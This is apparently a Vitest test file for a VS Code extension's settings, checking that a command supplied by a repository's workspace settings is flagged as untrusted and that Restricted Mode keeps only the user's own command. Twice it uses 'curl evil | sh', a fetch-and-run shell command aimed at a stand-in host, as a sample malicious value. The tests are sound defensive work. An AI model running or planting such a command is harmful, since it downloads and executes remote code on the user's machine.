import { readFileSync } from 'node:fs';

import { describe, expect, it } from 'vitest';

import { SERVER_SETTING_KEYS, USER_ONLY_KEYS, serverSettings, verifySettings } from '../src/settings';
import { mock } from './mocks/vscode';
import { workspace } from './mocks/vscode';

describe('verifySettings', () => {
    it('takes a workspace folder value over the workspace and the user value', () => {
        mock.set('verify.tailLines', 10);
        mock.set('verify.tailLines', 20, 'workspaceValue');
        mock.setForFolder('file:///work/a', 'verify.tailLines', 30);
        expect(verifySettings(workspace.getConfiguration('verify', Uri('file:///work/a')))).toEqual({ tailLines: 30 });
        expect(verifySettings(workspace.getConfiguration('verify'))).toEqual({ tailLines: 20 });
    });

    it('passes a wrong value through for the server to report', () => {
        mock.set('verify.timeoutMs', 'soon');
        expect(verifySettings(workspace.getConfiguration('verify'))).toEqual({ timeoutMs: 'soon' });
    });

    it('keeps an explicit null command (the user unsetting it)', () => {
        mock.set('verify.command', null);
        expect(verifySettings(workspace.getConfiguration('verify'))).toEqual({ command: null });
    });
});

describe("settings the workspace supplies are the repository's", () => {
    const config = () => verifySettings(workspace.getConfiguration('verify'));
    const folderConfig = () => verifySettings(workspace.getConfiguration('verify', Uri('file:///work/a')));

    it("sends the user's own command as command: it runs without asking", () => {
        mock.set('verify.command', 'make check');
        expect(config()).toEqual({ command: 'make check' });
    });

    it('sends a command from .vscode/settings.json as workspaceCommand, never as command', () => {
        mock.set('verify.command', 'make check');
        mock.set('verify.command', 'curl evil | sh', 'workspaceValue');
        expect(config()).toEqual({ workspaceCommand: 'curl evil | sh' });
    });

    it("marks a workspace folder's command too", () => {
        mock.setForFolder('file:///work/a', 'verify.command', 'cargo test');
        expect(folderConfig()).toEqual({ workspaceCommand: 'cargo test' });
    });

    it("counts a workspace command equal to the user's as the workspace's", () => {
        mock.set('verify.command', 'make check');
        mock.set('verify.command', 'make check', 'workspaceValue');
        expect(config()).toEqual({ workspaceCommand: 'make check' });
    });

    it("drops the workspace's confirm and autoDetect, keeping the user's own values", () => {
        mock.set('verify.confirm', 'never', 'workspaceValue');
        mock.set('verify.autoDetect', false, 'workspaceValue');
        mock.setForFolder('file:///work/a', 'verify.confirm', 'never');
        expect(config()).toEqual({});
        expect(folderConfig()).toEqual({});
        mock.set('verify.confirm', 'always');
        mock.set('verify.autoDetect', true);
        expect(config()).toEqual({ confirm: 'always', autoDetect: true });
        expect(folderConfig()).toEqual({ confirm: 'always', autoDetect: true });
    });

    it("keeps the user's confirm never: that is their choice", () => {
        mock.set('verify.confirm', 'never');
        mock.set('verify.command', 'make check', 'workspaceValue');
        expect(config()).toEqual({ confirm: 'never', workspaceCommand: 'make check' });
    });

    it("passes the workspace's other keys on: the repository may set them", () => {
        mock.set('verify.globs', ['*.py'], 'workspaceValue');
        mock.set('verify.timeoutMs', 5000, 'workspaceValue');
        mock.set('verify.runOn', 'manual', 'workspaceValue');
        mock.set('verify.tailLines', 10, 'workspaceValue');
        mock.set('verify.failedFirst', false, 'workspaceValue');
        expect(config()).toEqual({
            globs: ['*.py'],
            timeoutMs: 5000,
            runOn: 'manual',
            tailLines: 10,
            failedFirst: false,
        });
    });

    it("sends failedFirst only where it is set: the default stays the server's", () => {
        expect(config()).toEqual({});
        mock.set('verify.failedFirst', false);
        expect(config()).toEqual({ failedFirst: false });
    });

    it('contributes every server setting in package.json, failedFirst with its default', () => {
        const manifest = JSON.parse(readFileSync(new URL('../package.json', import.meta.url), 'utf8')) as {
            contributes: { configuration: { properties: Record<string, { default?: unknown }> } };
        };
        const properties = manifest.contributes.configuration.properties;
        for (const key of SERVER_SETTING_KEYS) {
            expect(properties).toHaveProperty([`verify.${key}`]);
        }
        expect(properties['verify.failedFirst']?.default).toBe(true);
    });

    it("in Restricted Mode sends the user's command, which VS Code still honours", () => {
        mock.state.trusted = false;
        mock.set('verify.command', 'make check');
        mock.set('verify.command', 'curl evil | sh', 'workspaceValue');
        expect(config()).toEqual({ command: 'make check' });
    });

    it('lists every user-only key, and verify.command, as restricted in package.json', () => {
        const manifest = JSON.parse(readFileSync(new URL('../package.json', import.meta.url), 'utf8')) as {
            capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
        };
        const restricted = manifest.capabilities.untrustedWorkspaces.restrictedConfigurations;
        for (const key of ['command', ...USER_ONLY_KEYS]) {
            expect(restricted).toContain(`verify.${key}`);
        }
        // The mock hides exactly what VS Code hides.
        expect([...mock.state.restricted].sort()).toEqual([...restricted].sort());
    });
});

describe('serverSettings', () => {
    it('trims, and treats non-strings as unset', () => {
        mock.set('verify.server.path', '  /usr/bin/lsp-verify ');
        mock.set('verify.server.interpreter', 42);
        expect(serverSettings(workspace.getConfiguration('verify'))).toEqual({
            path: '/usr/bin/lsp-verify',
            interpreter: '',
        });
    });
});

function Uri(value: string) {
    return { toString: () => value } as never;
}
